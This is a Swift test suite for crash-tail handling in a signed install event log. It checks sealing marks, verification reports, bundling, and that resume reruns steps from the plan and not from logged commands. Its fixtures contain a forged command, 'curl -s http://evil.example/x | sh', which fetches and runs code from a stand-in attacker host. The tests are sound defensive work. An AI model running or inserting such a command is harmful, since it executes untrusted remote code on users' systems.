import EventLog
import Foundation
import InstallModel
import Orchestrator
import Sealing
import Testing

/// What a crashed writer did not seal is never sealed as if it had (FORMAT.md §9.5): a writer continuing the
/// log (`resume`, `remedy`, `bundle`) seals its unsealed tail behind an `unsealed_at_crash` mark naming it,
/// and `verify` reports those records as not vouched for by the writer that wrote them.
@Suite struct CrashTailMarkTests {
    let crash = CrashTailTests()

    /// A crashed log with `chunks` genuine output chunks of the running step, then (with `command`) its
    /// `command_started` and `command_finished`: every kind of record a crash leaves after the last seal.
    func crashedLog(chunks: Int, command: Bool) throws -> String {
        try crash.crashedLog(genuine: chunks) { sequence, time in
            guard command else { return [] }
            return [CrashTailTests.event("command_started", "install-ripgrep", sequence + 1, time, #","argv":["sh","-c","curl -s http://evil.example/x | sh"]"#),
                    CrashTailTests.event("command_finished", "install-ripgrep", sequence + 2, time, #","exit_code":0"#)]
        }
    }

    /// The records after the crashed log's last seal.
    func tail(of log: String) throws -> ClosedRange<UInt64> {
        try #require(try SealVerifier.verify(path: log, expected: crash.trust.key.publicKey).crashTail)
    }

    @Test(arguments: [(0, true), (1, false), (2, true), (3, true)])
    func aResumedCrashTailIsSealedAsUnsealedAtCrash(chunks: Int, command: Bool) throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        let log = try crashedLog(chunks: chunks, command: command)
        let range = try tail(of: log)
        let writer = try LogWriter.open(path: log, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
        try SealingEventStore.forLog(writer, key: crash.trust.key).close()

        let report = try SealVerifier.verify(path: log, expected: crash.trust.key.publicKey)
        #expect(!report.failed && report.coverage == .whole, "\(report.summary)")
        #expect(report.crashTails == [range])
        #expect(report.summary.contains(
            "records \(range.lowerBound)–\(range.upperBound) were written after the last seal of a crashed writer (not sealed by it)"))
    }

    @Test func aBundleOfACrashedLogCarriesTheMark() throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        let log = try crashedLog(chunks: 1, command: true)
        let range = try tail(of: log)
        let bundle = crash.trust.directory + "/host.evb"
        try PlanBundle.write(log: log, to: bundle, profile: SealTrustTests.profile, bundledAt: SealTrustTests.Clock().now(), key: crash.trust.key)
        let report = try SealVerifier.verify(path: bundle, expected: crash.trust.key.publicKey)
        #expect(!report.failed && report.coverage == .whole, "\(report.summary)")
        #expect(report.crashTails == [range])
    }

    /// A crash tail is no evidence of what ran: whatever command events it holds for the running step (even a
    /// `command_finished` exit 0), `resume` reopens the step and runs it again from its plan, never the tail's argv.
    @Test(arguments: [[] as [Int32], [0], [0, 0], [1]])
    func resumeRunsTheRunningStepAgainWhateverItsCrashTailSays(finishes: [Int32]) throws {
        let step = Step(id: "install-ripgrep", label: "install ripgrep", action: .postInstall(CommandParameters(argv: ["true"])))
        let plan = Plan(id: PlanID("p-trust0000001"), tools: ["ripgrep"], profile: SealTrustTests.profile, steps: [step])
        var bodies: [EventBody] = [.planCreated(plan), .planStarted, .stepStarted(step: step.id, attempt: 1, command: ["true"])]
        for exitCode in finishes {
            bodies += [.commandStarted(step: step.id, argv: ["sh", "-c", "curl -s http://evil.example/x | sh"]),
                       .commandFinished(step: step.id, exitCode: exitCode)]
        }
        var state = PlanState()
        for (index, body) in bodies.enumerated() {
            state.apply(Event(sequence: UInt64(index + 1), time: SealTrustTests.Clock().now(), body: body))
        }
        let events = try ResumePreparation.events(for: state, acknowledged: false, confirmed: true)
        #expect(events.contains(.planInterrupted(cause: .crashDetected)), "\(events)")
        #expect(events.contains { if case .stepRetry(step.id, _) = $0 { true } else { false } }, "\(events)")
    }

    /// A mark is covered by the seal after it, so only a key holder can write one; still, a mark that names other
    /// records than the tail before it, or that other records follow before the seal, breaks that seal.
    @Test func aMarkThatDoesNotNameTheTailBreaksTheSealAfterIt() throws {
        defer { try? FileManager.default.removeItem(atPath: crash.trust.directory) }
        let log = try crashedLog(chunks: 2, command: false)
        let range = try tail(of: log)
        let wrong: [(ClosedRange<UInt64>, Bool)] = [
            (range.lowerBound + 1...range.upperBound, false), (range.lowerBound...range.upperBound + 1, false), (range, true),
        ]
        for (index, (named, recordAfter)) in wrong.enumerated() {
            let copy = crash.trust.directory + "/wrong-\(index).evlog"
            try FileManager.default.copyItem(atPath: log, toPath: copy)
            var sealer = try #require(try SealVerifier.prepareToAppend(path: copy, key: crash.trust.key).sealer)
            let writer = try LogWriter.open(path: copy, label: "", creator: PlanArchive.creator, createdAtMicros: 0)
            var records = [sealer.crashTailMark(named)]
            if recordAfter {
                let (sequence, time) = CrashTailTests.stamp(records[0])
                records.append(CrashTailTests.chunk("install-ripgrep", sequence + 1, time))
            }
            for record in records {
                try writer.append(record)
                sealer.observe(record)
            }
            try writer.append(try #require(try sealer.seal(final: true)))
            try writer.close()
            let report = try SealVerifier.verify(path: copy, expected: crash.trust.key.publicKey)
            #expect(report.failed && report.coverage == .broken, "mark \(named), record after: \(recordAfter): \(report.summary)")
            #expect(report.crashTails.isEmpty)
        }
    }
}
